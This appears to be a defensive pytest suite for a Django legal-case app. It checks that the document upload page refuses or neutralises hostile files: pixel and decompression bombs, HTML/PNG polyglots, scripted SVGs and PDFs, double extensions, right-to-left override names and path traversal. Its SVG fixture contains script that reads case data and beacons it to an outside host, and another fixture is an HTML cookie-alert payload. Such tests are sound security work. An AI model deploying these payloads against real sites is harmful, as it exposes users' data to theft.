"""The bad-upload corpus, sent through the real upload page as a browser would send it.

Each file is refused with a message a lawyer understands, or stored neutralised; a
refusal leaves nothing behind: no document, no stored file, no bytes on disk.
"""

import io
import os
from pathlib import Path

import pytest
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse
from PIL import Image

from documents.models import IdentityDocument, StoredFile
from tests.documents.samples import gps_of, jpeg_bytes, pdf_bytes, png_bytes
from tests.security.hostile_pdfs import ACTIONS, flate_bomb, pixel_bomb_image

RTL_OVERRIDE = "\u202e"
SVG_WITH_SCRIPT = (
    b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    b"<script>fetch('/cases/').then(r=>r.text()).then(t=>navigator.sendBeacon('//x',t))"
    b"</script></svg>"
)
HTML = b"<!doctype html><html><body><script>alert(document.cookie)</script></body></html>"


def _pixel_bomb() -> bytes:
    # 144 megapixels of one colour compress to a few kilobytes.
    out = io.BytesIO()
    Image.new("1", (12_000, 12_000)).save(out, format="PNG", optimize=True)
    return out.getvalue()


def _files_on_disk() -> set[Path]:
    root = Path(settings.MEDIA_ROOT)
    return {p for p in root.rglob("*") if p.is_file()}


def _post(client, case, name: str, content: bytes, content_type: str):
    return client.post(
        reverse("documents:document-add", args=[case.reference]),
        {"kind": "por", "number": "FICT-0001",
         "scans": SimpleUploadedFile(name, content, content_type=content_type)},
    )  # fmt: skip


REFUSED = [
    pytest.param("scan.png", b"\x89PNG\r\n\x1a\n" + b"\0" * 8, "image/png", "could not be read",
                 id="png-header-then-garbage"),
    pytest.param("polyglot.png", HTML + png_bytes(), "image/png", "Only JPEG or PNG",
                 id="html-then-png-polyglot"),
    pytest.param("logo.svg", SVG_WITH_SCRIPT, "image/svg+xml", "Only JPEG or PNG",
                 id="svg-with-script"),
    pytest.param("scan.png", SVG_WITH_SCRIPT, "image/png", "Only JPEG or PNG",
                 id="svg-named-png"),
    pytest.param("order.pdf", b"%PDF-1.7\n" + b"not a pdf " * 50, "application/pdf",
                 "could not be read", id="pdf-that-cannot-be-rewritten"),
    pytest.param("annexure.pdf", pixel_bomb_image(), "application/pdf", "too many pixels",
                 id="pdf-image-pixel-bomb"),
    pytest.param("bomb.png", _pixel_bomb(), "image/png", "too many pixels", id="pixel-bomb"),
    pytest.param("por.pdf.exe", b"MZ\x90\x00" + b"\0" * 200, "application/x-msdownload",
                 "Only JPEG or PNG", id="double-extension-program"),
    pytest.param("por.jpg.html", HTML, "text/html", "Only JPEG or PNG",
                 id="double-extension-html"),
]  # fmt: skip


@pytest.mark.parametrize(("name", "content", "content_type", "message"), REFUSED)
def test_bad_file_is_refused_clearly_and_nothing_is_saved(
    case, lawyer, login, name, content, content_type, message
):
    before = _files_on_disk()
    response = _post(login(lawyer), case, name, content, content_type)

    assert response.status_code == 400
    assert message in response.content.decode()
    assert not IdentityDocument.objects.exists()
    assert not StoredFile.objects.exists()
    assert _files_on_disk() == before


def test_pdf_flate_bomb_is_refused_and_nothing_is_saved(case, lawyer, login, settings):
    settings.UPLOAD_MAX_DECOMPRESSED_BYTES = 5 * 1024 * 1024
    before = _files_on_disk()
    response = _post(login(lawyer), case, "annexure.pdf", flate_bomb(3, 4), "application/pdf")
    assert response.status_code == 400
    assert "unpacks to more than 5 MB" in response.content.decode()
    assert not StoredFile.objects.exists() and _files_on_disk() == before


@pytest.mark.parametrize(
    "content",
    [
        pdf_bytes(javascript="app.alert(1)"),
        pdf_bytes(attachment=True),
        *[make() for make in ACTIONS.values()],
    ],
    ids=["pdf-with-javascript", "pdf-with-embedded-file", *ACTIONS],
)
def test_active_pdf_is_stored_rewritten_to_its_pages(case, lawyer, login, content):
    response = _post(login(lawyer), case, "order.pdf", content, "application/pdf")
    assert response.status_code == 302
    stored = StoredFile.objects.get().file.read()
    for word in (b"JavaScript", b"/JS", b"EmbeddedFile", b"tracker.invalid", b"OpenAction"):
        assert word not in stored


def test_oversize_file_is_refused_and_nothing_is_saved(case, lawyer, login, settings):
    settings.UPLOAD_MAX_BYTES = 50_000
    before = _files_on_disk()
    big = png_bytes(size=(2000, 2000)) + os.urandom(60_000)
    response = _post(login(lawyer), case, "big.png", big, "image/png")
    assert response.status_code == 400
    assert "larger than the" in response.content.decode()
    assert not StoredFile.objects.exists() and _files_on_disk() == before


def test_oversize_request_body_is_refused_before_it_is_read(case, lawyer, login, settings):
    settings.REQUEST_MAX_BYTES = 100_000
    response = _post(login(lawyer), case, "big.pdf", b"%PDF-" + b"0" * 200_000, "application/pdf")
    assert response.status_code == 413
    assert "too large" in response.content.decode()
    assert not IdentityDocument.objects.exists() and not StoredFile.objects.exists()


def test_png_with_html_appended_is_stored_without_it(case, lawyer, login):
    response = _post(login(lawyer), case, "scan.png", png_bytes() + HTML, "image/png")
    assert response.status_code == 302
    stored = StoredFile.objects.get()
    data = stored.file.read()
    assert b"<script" not in data and b"<html" not in data
    assert stored.content_type == "image/png"


def test_jpeg_with_gps_is_stored_without_it(case, lawyer, login):
    original = jpeg_bytes(with_gps=True)
    assert gps_of(original)
    response = _post(login(lawyer), case, "photo.jpg", original, "image/jpeg")
    assert response.status_code == 302
    assert gps_of(StoredFile.objects.get().file.read()) == {}


def test_double_extension_image_is_stored_under_a_generated_name(case, lawyer, login):
    _post(login(lawyer), case, "por.exe.jpg", jpeg_bytes(), "application/x-msdownload")
    stored = StoredFile.objects.get()
    assert stored.content_type == "image/jpeg"
    assert Path(stored.file.name).suffix == ".jpg"
    assert "por" not in stored.file.name and "exe" not in stored.file.name


def test_right_to_left_override_is_removed_from_names(case, lawyer, login):
    client = login(lawyer)
    sneaky = f"scan{RTL_OVERRIDE}gpj.exe"
    _post(client, case, sneaky, png_bytes(), "image/png")
    stored = StoredFile.objects.get()
    assert RTL_OVERRIDE not in stored.original_name
    assert RTL_OVERRIDE not in stored.file.name
    download = client.get(
        reverse("documents:file-download", args=[case.reference, stored.public_id])
    )
    assert RTL_OVERRIDE not in download["Content-Disposition"]
    assert download["X-Content-Type-Options"] == "nosniff"
    assert download["Content-Disposition"].startswith("attachment")


def test_right_to_left_override_is_not_echoed_in_a_refusal(case, lawyer, login):
    response = _post(login(lawyer), case, f"x{RTL_OVERRIDE}fdp.exe", HTML, "text/html")
    assert response.status_code == 400
    assert RTL_OVERRIDE not in response.content.decode()


def test_path_traversal_name_stays_inside_the_media_root(case, lawyer, login):
    before = _files_on_disk()
    _post(login(lawyer), case, "../../../../tmp/evil.png", png_bytes(), "image/png")
    stored = StoredFile.objects.get()
    assert ".." not in stored.file.name and "/" not in stored.original_name
    assert stored.original_name == "evil.png"
    (new_file,) = _files_on_disk() - before
    assert Path(settings.MEDIA_ROOT).resolve() in new_file.resolve().parents
